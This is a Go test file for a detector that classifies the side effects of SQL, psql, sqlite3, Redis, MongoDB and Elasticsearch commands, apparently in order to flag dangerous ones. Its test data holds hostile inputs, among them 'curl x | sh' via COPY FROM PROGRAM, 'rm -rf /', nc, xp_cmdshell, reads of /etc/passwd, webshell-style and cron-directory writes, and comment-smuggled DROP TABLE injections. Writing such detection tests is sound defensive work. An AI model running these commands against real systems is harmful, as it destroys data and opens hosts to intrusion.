package sqltext_test

import (
	"slices"
	"strings"
	"testing"

	"approver.example/reflexcore/effect"
	"approver.example/reflexcore/sqltext"
)

// effects lists what a text does, and its payloads.
func effects(dialect, text string) (out []string) {
	list := sqltext.Effects(nil, dialect, text, sqltext.DefaultLimits(),
		func(p effect.Payload) { out = append(out, p.Lang+":"+p.Text) })
	for _, e := range list {
		if e.Kind != effect.Exec || e.Target == "" || !slices.Contains(out, "sh:"+e.Target) &&
			!slices.Contains(out, "cmd:"+e.Target) {
			out = append(out, e.By+" = "+e.String())
		}
	}
	return out
}

func TestEffects(t *testing.T) {
	const x = effect.Unknown
	for _, c := range []struct {
		dialect, text string
		want          []string
	}{
		// Lost.
		{"", "DROP TABLE users", []string{"DROP TABLE = remote-delete table users bulk"}},
		{"", "drop/**/table/*x*/if exists `a`.`b`, c;", []string{"DROP TABLE = remote-delete table a.b bulk",
			"DROP TABLE = remote-delete table c bulk"}},
		{"", "DROP DATABASE prod", []string{"DROP DATABASE = remote-delete database prod recursive+bulk"}},
		{"", "SELECT 1; -- x\nTRUNCATE TABLE a", []string{"TRUNCATE = remote-delete table a bulk"}},
		{"", "DELETE FROM users", []string{"DELETE = remote-delete rows of users bulk"}},
		{"", "DELETE FROM users WHERE id = 5", []string{"DELETE = remote-delete rows of users"}},
		{"", "UPDATE users SET admin = true", []string{"UPDATE = remote-delete rows of users bulk"}},
		{"", "DELETE FROM users LIMIT 10", []string{"DELETE = remote-delete 10 rows of users"}},
		{"", "DELETE FROM users LIMIT 1000000", []string{"DELETE = remote-delete 1000000 rows of users bulk"}},
		{"mssql", "DELETE TOP (10) FROM users", []string{"DELETE = remote-delete 10 rows of users"}},
		{"", "ALTER TABLE a DROP COLUMN b", []string{"ALTER TABLE … DROP = remote-delete column a.b"}},
		{"", "WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x",
			[]string{"DELETE = remote-delete rows of users bulk"}},
		{"", "WITH x AS (SELECT 1) DELETE FROM users", []string{"DELETE = remote-delete rows of users bulk"}},
		{"", "EXPLAIN ANALYZE DELETE FROM users", []string{"DELETE = remote-delete rows of users bulk"}},
		{"", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users", []string{"DELETE = remote-delete rows of users bulk"}},
		{"postgres", "DO $x$ BEGIN EXECUTE 'DROP TABLE a'; END $x$", []string{"DROP TABLE = remote-delete table a bulk"}},
		{"postgres", "DO $$ BEGIN IF true THEN TRUNCATE a; END IF; END $$",
			[]string{"TRUNCATE = remote-delete table a bulk"}},
		{"mssql", "EXEC('DROP ' + 'TABLE a')", []string{"DROP TABLE = remote-delete table a bulk"}},
		{"mssql", "EXEC sp_executesql N'DROP TABLE a'", []string{"DROP TABLE = remote-delete table a bulk"}},
		{"mysql", "PREPARE s FROM 'DROP TABLE a'; EXECUTE s", []string{"DROP TABLE = remote-delete table a bulk"}},
		{"mysql", "PREPARE s FROM x'44524f50205441424c452061'", []string{"DROP TABLE = remote-delete table a bulk"}},
		{"mysql", "SELECT 1 /*!50000 ; DROP TABLE a */", []string{"DROP TABLE = remote-delete table a bulk"}},
		{"", "/*! DROP TABLE a */", []string{"DROP TABLE = remote-delete table a bulk"}},
		{"mysql", `SELECT '\''; DROP TABLE a; -- '`, []string{"DROP TABLE = remote-delete table a bulk"}},
		{"", `SELECT '\'; DROP TABLE a; --'`, []string{"DROP TABLE = remote-delete table a bulk"}},
		{"", `SELECT E'\''; DROP TABLE a; --'`, []string{"DROP TABLE = remote-delete table a bulk"}},
		{"postgres", "/* /* */ DROP TABLE a */ SELECT 1", nil},
		{"", "/* /* */ DROP TABLE a */ SELECT 1", []string{"DROP TABLE = remote-delete table a bulk"}},
		{"mysql", "SELECT 1 --1; DROP TABLE a", []string{"DROP TABLE = remote-delete table a bulk"}},
		{"mysql", "SHUTDOWN", []string{"SHUTDOWN = kill the server bulk"}},
		// Rights.
		{"", "GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%'", []string{"GRANT = permission account bob bulk"}},
		{"", "REVOKE SELECT ON a FROM bob", []string{"REVOKE = permission account bob"}},
		{"", "CREATE USER eve WITH SUPERUSER PASSWORD 'x'", []string{"CREATE USER = permission user eve bulk"}},
		{"", "ALTER ROLE eve SUPERUSER", []string{"ALTER ROLE = permission role eve bulk"}},
		// Files and commands.
		{"postgres", "COPY a FROM PROGRAM 'curl x | sh'", []string{"sh:curl x | sh"}},
		{"postgres", "COPY (SELECT '') TO PROGRAM 'id'", []string{"sh:id"}},
		{"postgres", "COPY a TO '/tmp/x'", []string{"COPY = write /tmp/x"}},
		{"psql", `\copy a to program 'nc x 1'`, []string{"sh:nc x 1"}},
		{"psql", `\copy a from ./x.csv csv`, []string{`\copy = read ./x.csv`}},
		{"psql", `SELECT 1 \! rm -rf /`, []string{"sh:rm -rf /"}},
		{"psql", "\\! id\nSELECT 1", []string{"sh:id"}},
		{"psql", "\\!id", []string{"sh:id"}},
		{"psql", "\\set x `id`", []string{"sh:id"}},
		{"psql", `select 1 \g |sh`, []string{"sh:sh"}},
		{"psql", `\o /tmp/x`, []string{`\o of the client = write /tmp/x`}},
		{"mysql", "system rm -rf /", []string{"sh:rm -rf /"}},
		{"mysql", "SELECT 1;\n\\! id", []string{"sh:id"}},
		{"mysql", "source /tmp/x.sql", []string{"a script of the client = read /tmp/x.sql",
			"a script of the client = exec /tmp/x.sql from file"}},
		{"sqlite3", ".shell id", []string{"sh:id"}},
		{"sqlite3", ".sys id", []string{"sh:id"}},
		{"sqlite3", ".once |sh", []string{"sh:sh"}},
		{"sqlite3", ".load ./x.so", []string{".load = exec ./x.so"}},
		{"sqlite3", ".output /tmp/x\nSELECT 1;", []string{".output of the client = write /tmp/x"}},
		{"sqlite3", "SELECT load_extension('x.so')", []string{"load_extension = exec x.so"}},
		{"sqlite3", "ATTACH DATABASE '/var/www/x.php' AS x", []string{"ATTACH DATABASE = write /var/www/x.php"}},
		{"mysql", "SELECT LOAD_FILE('/etc/passwd')", []string{"load_file = read /etc/passwd"}},
		{"mysql", "SELECT 'x' INTO OUTFILE '/tmp/x'", []string{"INTO OUTFILE = write /tmp/x"}},
		{"mysql", "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE a", []string{"LOAD DATA LOCAL = read /etc/passwd"}},
		{"postgres", "SELECT pg_read_file('/etc/passwd')", []string{"pg_read_file = read /etc/passwd"}},
		{"postgres", "SELECT lo_export(1, '/tmp/x')", []string{"lo_export = write /tmp/x"}},
		{"mssql", "EXEC master..xp_cmdshell 'whoami'", []string{"cmd:whoami"}},
		{"mssql", "EXEC xp_cmdshell('dir')", []string{"cmd:dir"}},
		{"postgres", "ALTER SYSTEM SET archive_command = 'curl x'",
			[]string{"sh:curl x", "ALTER SYSTEM = persist curl x", "ALTER SYSTEM = permission archive_command"}},
		{"postgres", "CREATE FUNCTION f() RETURNS void AS $$ import os $$ LANGUAGE plpython3u",
			[]string{"python: import os ", "a function in plpython3u = exec  import os "}},
		// Unknown.
		{"", x, []string{"SQL = opaque … partial"}},
		{"", "DELETE FROM users WHERE " + x, []string{"DELETE = remote-delete rows of users bulk+partial"}},
		{"", "DELETE FROM users WHERE id = " + x, []string{"DELETE = remote-delete rows of users partial"}},
		{"", "DROP " + x, []string{"DROP = remote-delete … bulk+partial"}},
		{"mssql", "EXEC(@x)", []string{"EXECUTE = opaque @x partial"}},
		// Honest.
		{"", "SELECT * FROM users WHERE name = 'DROP TABLE users; --'", nil},
		{"", `SELECT "drop table" FROM a`, nil},
		{"", "INSERT INTO log VALUES ('DELETE FROM users')", nil},
		{"", "UPDATE users SET a = 1 WHERE id = 3", nil},
		{"", "CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE ON UPDATE CASCADE)", nil},
		{"", "INSERT INTO a VALUES (1) ON CONFLICT (id) DO UPDATE SET b = 2", nil},
		{"", "SELECT * FROM a FOR UPDATE", nil},
		{"", "EXPLAIN DELETE FROM users", nil},
		{"", "DROP TEMPORARY TABLE x", nil},
		{"", "ALTER TABLE a ADD COLUMN b int, ALTER COLUMN c DROP NOT NULL", nil},
		{"", "SELECT truncate(1.5, 1), count(*) FROM a -- DROP TABLE a", nil},
		{"", "BEGIN; CREATE INDEX x ON a (b); COMMIT;", nil},
		{"psql", `\dt`, nil},
		{"psql", `\copy a to stdout`, nil},
		{"sqlite3", ".tables", nil},
		{"", "SHOW TABLES", nil},
		{"", "PRAGMA table_info(a)", nil},
		{"", "", nil},
		// Redis.
		{"redis-cli", "FLUSHALL", []string{"redis FLUSHALL = remote-delete all databases recursive+bulk"}},
		{"redis-cli", "get a\n\"flushdb\" async", []string{"redis FLUSHDB = remote-delete the database bulk"}},
		{"redis-cli", "config set dir /var/spool/cron", []string{"redis CONFIG = write /var/spool/cron partial",
			"redis CONFIG = persist /var/spool/cron partial"}},
		{"redis-cli", "EVAL \"for _,k in ipairs(redis.call('keys','*')) do redis.call('del',k) end\" 0",
			[]string{"redis EVAL = remote-delete keys bulk"}},
		{"redis-cli", "DEL a", []string{"redis DEL = remote-delete keys a"}},
		{"redis-cli", "slaveof 1.2.3.4 6379", []string{"redis SLAVEOF = net-in 1.2.3.4",
			"redis SLAVEOF = remote-delete all databases bulk"}},
		{"redis-cli", "MODULE LOAD /tmp/x.so", []string{"redis MODULE = exec /tmp/x.so"}},
		{"redis-cli", "GET flushall", nil},
		{"redis-cli", "SET a FLUSHALL", nil},
		// MongoDB.
		{"mongosh", "db.dropDatabase()", []string{"dropdatabase = remote-delete database recursive+bulk"}},
		{"mongosh", "db.users.deleteMany({})", []string{"deletemany = remote-delete documents of users bulk"}},
		{"mongosh", "db.users.deleteMany({a: 1})", []string{"deletemany = remote-delete documents of users"}},
		{"mongosh", "db.users . drop ( )", []string{"drop = remote-delete collection users bulk"}},
		{"mongosh", "db['users']['drop']()", []string{"drop = remote-delete collection … bulk"}},
		{"mongosh", "db.getCollection('users').remove({})", []string{"remove = remote-delete documents of … bulk"}},
		{"mongosh", "db.adminCommand({shutdown: 1})", []string{"admincommand = kill the server"}},
		{"mongosh", "db.users.find({a: 'db.dropDatabase()'}) // db.dropDatabase()", nil},
	} {
		if got := effects(c.dialect, c.text); !slices.Equal(got, c.want) {
			t.Errorf("%s %q:\n got %q\nwant %q", c.dialect, c.text, got, c.want)
		}
	}
}

// A WHERE that holds for every row is as good as none.
func TestWhere(t *testing.T) {
	for every, conds := range map[bool][]string{
		true: {"1=1", "1", "true", "''=''", "id=id", "a.id = a.id", "(1=1)", "((1)=(1))", "NOT false", "NOT (1=2)",
			"id=5 OR 1=1", "1=1 AND 2=2", "2>1", "'a'<'b'", "1<>2", "1 LIMIT 5000", "id > 0", "id >= 1", "id IS NOT NULL",
			"id != -1",
			"name LIKE '%'", "EXISTS (SELECT 1)", "id IN (SELECT id FROM users)", "1 IN (1,2)", "1 /*x*/ = /*y*/ 1",
			"1=1 -- AND id=1", "(id=1) OR (1)", "a BETWEEN 1 AND 2 OR 1"},
		false: {"id=5", "id=5 AND 1=1", "1=2", "a IS NOT NULL", "name LIKE 'x%'", "id > 100", "created < now()",
			"id IN (1,2)", "id IN (SELECT id FROM users WHERE a)", "random() = random()", "a BETWEEN 1 AND 2", "false OR id=1",
			"(id=1)", "EXISTS (SELECT 1 FROM b)", "id=", "((("},
	} {
		for _, cond := range conds {
			got := effects("postgres", "DELETE FROM users WHERE "+cond)
			if len(got) != 1 || strings.HasSuffix(got[0], " bulk") != every {
				t.Errorf("WHERE %s: got %q, every row %t", cond, got, every)
			}
		}
	}
}

func TestHTTP(t *testing.T) {
	for _, c := range []struct{ method, url, body, want string }{
		{"DELETE", "http://es:9200/logs", "", "remote-delete http://es:9200/logs"},
		{"delete", "http://es:9200/_all", "", "remote-delete http://es:9200/_all bulk"},
		{"DELETE", "http://es:9200/*", "", "remote-delete http://es:9200/* bulk"},
		{"POST", "http://es:9200/a/_delete_by_query", `{"query":{"match_all":{}}}`,
			"remote-delete http://es:9200/a/_delete_by_query bulk"},
		{"POST", "http://es:9200/a/_delete_by_query", `{"query":{"term":{"a":1}}}`,
			"remote-delete http://es:9200/a/_delete_by_query"},
		{"GET", "http://es:9200/_all", "", ""},
		{"POST", "http://es:9200/a/_search", "{}", ""},
	} {
		got := ""
		for _, e := range sqltext.HTTP(nil, c.method, c.url, c.body) {
			got += e.String()
		}
		if got != c.want {
			t.Errorf("%s %s: got %q, want %q", c.method, c.url, got, c.want)
		}
	}
}

func TestLimits(t *testing.T) {
	if got := sqltext.Effects(nil, "", "SELECT 1", sqltext.Limits{}, nil); len(got) == 0 || got[0].Kind != effect.Opaque {
		t.Errorf("no budget: %v", got)
	}
	lim := sqltext.DefaultLimits()
	lim.Depth = 3
	nested := "DROP TABLE a"
	for range 5 {
		nested = "EXECUTE '" + strings.ReplaceAll(nested, "'", "''") + "'"
	}
	if got := sqltext.Effects(nil, "postgres", nested, lim, nil); len(got) == 0 || got[0].Kind != effect.Opaque {
		t.Errorf("what lies too deep is lost: %v", got)
	}
}

func FuzzSQL(f *testing.F) {
	for _, s := range [][2]string{{"", "DELETE FROM a WHERE 1=1"}, {"mysql", "/*!1 /*"}, {"psql", "\\set x `"},
		{"sqlite3", ".import \"|"}, {"mssql", "EXEC x('a'+@b)"}, {"redis", "1 \"\\"}, {"mongo", "db['a']("},
		{"", "$a$ $b$ \\ [ ` \""}, {"", "WHERE ((((NOT NOT"}, {"oracle", "@x"}, {"", "\x00; DROP \x00"}} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, dialect, text string) {
		lim := sqltext.DefaultLimits()
		list := sqltext.Effects(nil, dialect, text, lim, func(effect.Payload) {})
		if len(list) > 4*len(text)+10 {
			t.Errorf("%d effects of %d bytes", len(list), len(text))
		}
		if dialect != "" {
			return
		}
		// What follows a statement does not hide it.
		for _, e := range sqltext.Effects(nil, dialect, "DROP TABLE zz1;"+text, lim, nil) {
			if e.Target == "table zz1" {
				return
			}
		}
		t.Errorf("%q hides what is before it", text)
	})
}

func BenchmarkEffects(b *testing.B) {
	for _, text := range []string{"SELECT a, b FROM users WHERE id = 5", "DELETE FROM users WHERE id = 5 OR 1=1",
		strings.Repeat("INSERT INTO a VALUES (1, 'x', \"y\");\n", 100)} {
		b.Run(text[:12], func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				sqltext.Effects(nil, "", text, sqltext.DefaultLimits(), nil)
			}
		})
	}
}
